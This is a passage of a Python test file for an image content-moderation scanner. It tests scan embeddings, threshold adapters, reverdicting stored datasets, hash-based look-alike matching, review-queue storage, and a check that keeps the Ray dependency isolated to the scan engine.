    plain = ScanWorker(worker_config)
    try:
        rows = {r["source"]: r for t in listing_tables(list_sources([str(tmp_path)]), 5) for r in worker(t).to_pylist()}
        without = {r["source"]: r for t in listing_tables(list_sources([str(tmp_path)]), 5)
                   for r in plain(t).to_pylist()}
        model = worker.model
        stills = [s for s, r in rows.items() if expected[s] is None and r["frames"] is None]
        assert stills and all(len(rows[s]["embedding"]) == model.embedding_size for s in stills)
        assert all(rows[s]["embedding"] is None for s in rows if s not in stills)  # errors, animations: none
        assert all(without[s]["embedding"] is None for s in without)  # only with --embeddings
        for s in stills[:3]:  # the same forward pass as Model.predict_with_embeddings, and the same scores
            x = worker.decoder.prepare(model, Path(s).read_bytes())
            assert isinstance(x, np.ndarray)
            probs, vectors = model.predict_with_embeddings(x[None])
            assert np.abs(np.asarray(rows[s]["embedding"]) - vectors[0]).max() <= 1e-4 * max(1.0, vectors[0].max())
            assert rows[s]["scores"] == pytest.approx(without[s]["scores"], abs=1e-6)
            assert rows[s]["scores"] == pytest.approx(probs[0].tolist(), abs=1e-6)
    finally:
        worker.close()
        plain.close()


def _embedded_rows(n: int, seed: int = 9) -> tuple[list[dict[str, Any]], dict[int, np.ndarray]]:
    rng = random.Random(seed)
    vectors = np.random.default_rng(seed).random((n, DIM)).astype(np.float32)
    rows: list[dict[str, Any]] = []
    kept: dict[int, np.ndarray] = {}
    for i in range(n):
        row: dict[str, Any] = {"source": f"s{i}", "sha256": _sha(i), **_scores(rng)}
        if i % 4:  # most rows kept an embedding (--embeddings)
            row["embedding"] = vectors[i].tolist()
            kept[i] = vectors[i]
        if i % 11 == 0:  # scanned by another version of the model: not the adapter's
            row["model_version"] = "v0"
        if i % 13 == 0:  # an animation keeps no embedding: the base model's rule
            frames = [FrameScore(k, k * 100, _scores(rng)) for k in range(3)]
            row.update({c: None for c in CLASS_NAMES})
            row.pop("embedding", None)
            kept.pop(i, None)
            row["frames"] = [{"index": f.index, "time_ms": f.time_ms, "scores": [f.scores[c] for c in CLASS_NAMES]}
                             for f in frames]
        if i % 29 == 0:
            row = {"source": f"s{i}", "sha256": _sha(i), "error_code": "not_an_image"}
            kept.pop(i, None)
        rows.append(row)
    return rows, kept


def test_an_adapter_judges_the_rows_with_an_embedding_as_the_service_would():
    rows, kept = _embedded_rows(400)
    adapter, base = _adapter(), Thresholds()
    rng = random.Random(2)
    matches: dict[str, Match] = {}
    for i in range(0, 400, 6):  # remembered decisions, some with the decided image's embedding
        decided = {c: float(np.float32(v)) for c, v in _scores(rng).items()}
        near = kept.get(i)
        embedding = None if near is None or i % 12 else (near + (0.01 if i % 24 else 0.5)).astype(np.float32)
        matches[_sha(i)] = Match("review", SAFE, "neutral", "pdq", 20, i, i, decided, "MobileNetV2Mid", "v1",
                                 embedding is not None, embedding)
    table = _rows(rows)
    got = judge(table, base, 4, _Known(matches), now=NOW, adapter=adapter)
    judged_by_adapter = 0
    for i, row in enumerate(rows):
        if "error_code" in row:
            assert got["verdict"][i].as_py() is None
            continue
        frames = None if "frames" not in row else [
            FrameScore(f["index"], f["time_ms"], dict(zip(CLASS_NAMES, f["scores"], strict=True))) for f in row["frames"]]
        scores = frames[0].scores if frames else {c: float(np.float32(row[c])) for c in CLASS_NAMES}
        mine = i in kept and row.get("model_version", "v1") == "v1"
        want = service_judge(scores, adapter.thresholds(base) if mine else base,
                             ModelInfo("MobileNetV2Mid", row.get("model_version", "v1")), Timings(0, 0, 0, 0), _sha(i),
                             None if mine else 4, frames=frames, match=matches.get(_sha(i)),
                             embedding=kept.get(i), adapter=adapter if mine else None)
        assert got["verdict"][i].as_py() == want.verdict, i
        assert got["verdict_source"][i].as_py() == want.verdict_source, i
        assert got["adult_score"][i].as_py() == pytest.approx(want.adult_score, abs=1e-9), i
        assert got["safe_score"][i].as_py() == pytest.approx(want.safe_score, abs=1e-9), i
        assert got["thresholds_version"][i].as_py() == (None if mine else 4)
        named = json.loads(got["thresholds"][i].as_py())
        assert named.get("adapter") == (adapter.ref if mine else None)
        assert (named["adult"], named["safe"]) == ((0.6, 0.7) if mine else (base.adult, base.safe))
        judged_by_adapter += mine
    assert 200 < judged_by_adapter < 300
    # the adapter changed verdicts: the rows it judged are not all judged as the base model judges them
    plain = judge(table, base, 4, now=NOW)
    assert plain["verdict"].to_pylist() != got["verdict"].to_pylist()


def test_a_look_alike_needs_its_embedding_near_the_decided_images(tmp_path):
    """The scan's rows with embeddings get the service's embedding bound: a PDQ match that would clear an unknown
    (the adult score no higher than the decided image's) is refused when the embeddings lie far apart."""
    scores = {"drawings": 0.05, "hentai": 0.05, "neutral": 0.6, "porn": 0.2, "sexy": 0.1}  # unknown by default
    assert Thresholds().decide(scores) == UNKNOWN
    e = np.random.default_rng(1).random(DIM).astype(np.float32)
    rows = [{"source": f"s{i}", "sha256": _sha(i), **scores, "embedding": e.tolist()} for i in range(3)]
    near_e, far_e = e + np.float32(0.001), np.random.default_rng(2).random(DIM).astype(np.float32)
    matches = {_sha(0): Match("review", SAFE, "neutral", "pdq", 20, 1, 1, scores, "MobileNetV2Mid", "v1", True, near_e),
               _sha(1): Match("review", SAFE, "neutral", "pdq", 20, 2, 2, scores, "MobileNetV2Mid", "v1", True, far_e),
               _sha(2): Match("review", SAFE, "neutral", "pdq", 20, 3, 3, scores, "MobileNetV2Mid", "v1", True, None)}
    got = judge(_rows(rows), Thresholds(), 1, _Known(matches), now=NOW)
    # near: the remembered decision; far: the model's unknown; an embedding that could not be read: fails closed
    assert got["verdict"].to_pylist() == [SAFE, UNKNOWN, UNKNOWN]
    assert got["verdict_source"].to_pylist() == ["review", "model", "model"]


def test_reverdict_with_an_adapter_applies_it_from_stored_embeddings_or_refuses(tmp_path, monkeypatch, capsys):
    # a dataset scanned without --embeddings: refused, nothing written
    ds, _ = _dataset_of_scores(tmp_path, 40, parts=2)
    before = {name: (tmp_path / "ds" / name).read_bytes() for name in ds.parts()}
    with pytest.raises(NoEmbeddings, match="scan with --embeddings"):
        reverdict(ds, Thresholds(), 1, adapter=_adapter())
    assert {name: (tmp_path / "ds" / name).read_bytes() for name in ds.parts()} == before
    monkeypatch.setenv("NSFW_DATA_DIR", str(tmp_path / "data"))
    pool = open_pool(None, tmp_path / "data")
    store = Adapters(pool)
    try:
        stored = _store_adapter(store, "policy")
    finally:
        store.close()
        pool.close()
    assert cli.main(["reverdict", str(tmp_path / "ds"), "--adapter", "policy", "--json"]) == 2
    assert "keeps no embeddings of MobileNetV2Mid v1" in capsys.readouterr().err
    assert {name: (tmp_path / "ds" / name).read_bytes() for name in ds.parts()} == before
    # a dataset with embeddings: the adapter judges the rows that kept one of its model version
    rows, kept = _embedded_rows(120)
    ds2 = ScanDataset(str(tmp_path / "ds2"))
    ds2.create_or_open("test")
    table = _rows(rows)
    for name, column in judge(table, Thresholds(), None, now=NOW).items():
        table = table.set_column(table.schema.get_field_index(name), name, column)
    ds2.write_part(table, new_run_id(NOW), 0)
    assert cli.main(["reverdict", str(tmp_path / "ds2"), "--adapter", "policy@1", "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    mine = [i for i in kept if rows[i].get("model_version", "v1") == "v1"]
    assert report["adapter"] == {**stored.ref, "thresholds": {"adult": 0.6, "safe": 0.7}}
    assert report["by_adapter"] == len(mine) and report["changed"] > 0
    view = ds2.view()
    expected = judge(_rows(rows), Thresholds(), None, now=NOW, adapter=stored)
    assert view["verdict"].to_pylist() == expected["verdict"].to_pylist()
    assert sum("adapter" in json.loads(t) for t in view["thresholds"].to_pylist() if t) == len(mine)
    # its thresholds given on the command line apply to its score
    assert cli.main(["reverdict", str(tmp_path / "ds2"), "--adapter", "policy", "--adult", "0.99", "--safe", "0.01",
                     "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["adapter"]["thresholds"] == {"adult": 0.99, "safe": 0.01}
    view = ds2.view()
    by_row = dict(zip(view["source"].to_pylist(), view["verdict"].to_pylist(), strict=True))
    adult_scores = dict(zip(view["source"].to_pylist(), view["adult_score"].to_pylist(), strict=True))
    for i in mine:
        assert by_row[f"s{i}"] == (ADULT if adult_scores[f"s{i}"] >= 0.99 - 1e-9 else SAFE)


def test_queued_rows_keep_their_embedding(tmp_path):
    rows, kept = _embedded_rows(60)
    for row in rows:
        if "error_code" not in row:
            row["verdict"], row["verdict_source"] = UNKNOWN, "model"
        if "frames" in row:  # judged, an animation's row has its deciding frame's scores
            row.update(zip(CLASS_NAMES, row["frames"][0]["scores"], strict=True))
    table = _rows(rows)
    pool = open_pool(None, tmp_path)
    queue, store = ReviewQueue(None, data_dir=tmp_path), Adapters(pool)
    try:
        ids = Queuer(queue, (UNKNOWN,), keep_embedding=store.save_item_embedding).enqueue(table).to_pylist()
        for i, review_id in enumerate(ids):
            if "error_code" in rows[i]:
                assert review_id is None
                continue
            ticket = queue.ticket(review_id)
            assert ticket is not None
            found = store.item_embedding(ticket[0])
            if i in kept:
                assert found is not None and found[:2] == ("MobileNetV2Mid", rows[i].get("model_version", "v1"))
                assert np.abs(found[2] - kept[i]).max() < 1e-3  # float16, as the service keeps a request's
            else:
                assert found is None
    finally:
        store.close()
        queue.close()
        pool.close()


# ---------------------------------------------------------------- Ray stays out of the service


def _imports(path: Path) -> set[str]:
    import ast

    names: set[str] = set()
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.Import):
            names |= {a.name for a in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            names.add(node.module)
    return names


def test_only_the_scan_engine_imports_ray():
    files = [*(ROOT / "nsfw_core").rglob("*.py"), *(ROOT / "nsfw_ui").rglob("*.py"), *(ROOT / "pages").rglob("*.py"),
             ROOT / "app.py", ROOT / "streamlit_app.py"]
    importers = sorted(str(p.relative_to(ROOT)) for p in files if any(n.split(".")[0] == "ray" for n in _imports(p)))
    assert importers == ["nsfw_core/scan/engine.py"]
    # nothing outside the scan package imports the scan package (so nothing there can reach Ray)
    outside = sorted(str(p.relative_to(ROOT)) for p in files if "nsfw_core/scan/" not in p.as_posix()
                     and any(n.startswith("nsfw_core.scan") for n in _imports(p)))
    assert outside == []
    # the service's install has no Ray; the scan extra does
    service = (ROOT / "requirements.txt").read_text().lower()
    assert "ray" not in {line.split("==")[0].split("[")[0].strip() for line in service.splitlines()}
    import tomllib

    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    assert not [d for d in project["dependencies"] if d.lower().startswith("ray")]
    assert project["optional-dependencies"]["scan"] == ["ray[data]"]
    assert project["scripts"]["nsfw-scan"] == "nsfw_core.scan.cli:main"


@pytest.mark.slow
def test_the_server_and_the_scan_command_without_a_scan_never_load_ray():
    import subprocess
    import sys

    code = ("import sys, app, nsfw_core.http.app, nsfw_core.context, nsfw_core.cli, nsfw_core.scan.cli, "
            "nsfw_core.scan.reverdict, nsfw_core.scan.driver; print(sorted(m for m in sys.modules if m == 'ray' "
            "or m.startswith('ray.')))")
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.strip().splitlines()[-1] == "[]"


def test_many_lookups_at_once_answer_as_one_lookup_each(tmp_path):
    """KnownImages.lookup_many (reverdict's: the known hashes searched among the rows') == lookup per row."""
    rng = np.random.default_rng(5)
    listed = [rng.integers(0, 256, 32, dtype=np.uint8).tobytes() for _ in range(60)]

    def near(h: bytes, bits: int) -> bytes:
        a = np.unpackbits(np.frombuffer(h, np.uint8))
        a[rng.choice(256, bits, replace=False)] ^= 1
        return np.packbits(a).tobytes()

    pool = open_pool(None, tmp_path)
    known = KnownImages(pool)
    try:
        known.import_list([ListEntry(_sha(i) if i % 3 == 0 else None, h.hex(), ["deny", "allow"][i % 2])
                           for i, h in enumerate(listed)], by="admin")
        known.import_list([ListEntry(None, listed[7].hex(), "allow", "changed")], by="admin")  # replaces an entry
        queries: list[tuple[str | None, bytes | None]] = [(_sha(i) if i % 5 == 0 else _sha(1000 + i),
                    near(listed[i % 60], int(rng.integers(0, 45))) if i % 4 else None) for i in range(300)]
        queries += [(None, rng.integers(0, 256, 32, dtype=np.uint8).tobytes()) for _ in range(50)]
        one_by_one = [known.lookup(s or "", p) for s, p in queries]
        assert sum(m is not None for m in one_by_one) > 100
        for batch in (queries, queries[:10]):  # larger than the known hashes (reversed), and smaller
            assert known.lookup_many([s for s, _ in batch], [p for _, p in batch]) == one_by_one[:len(batch)]
    finally:
        known.close()
        pool.close()
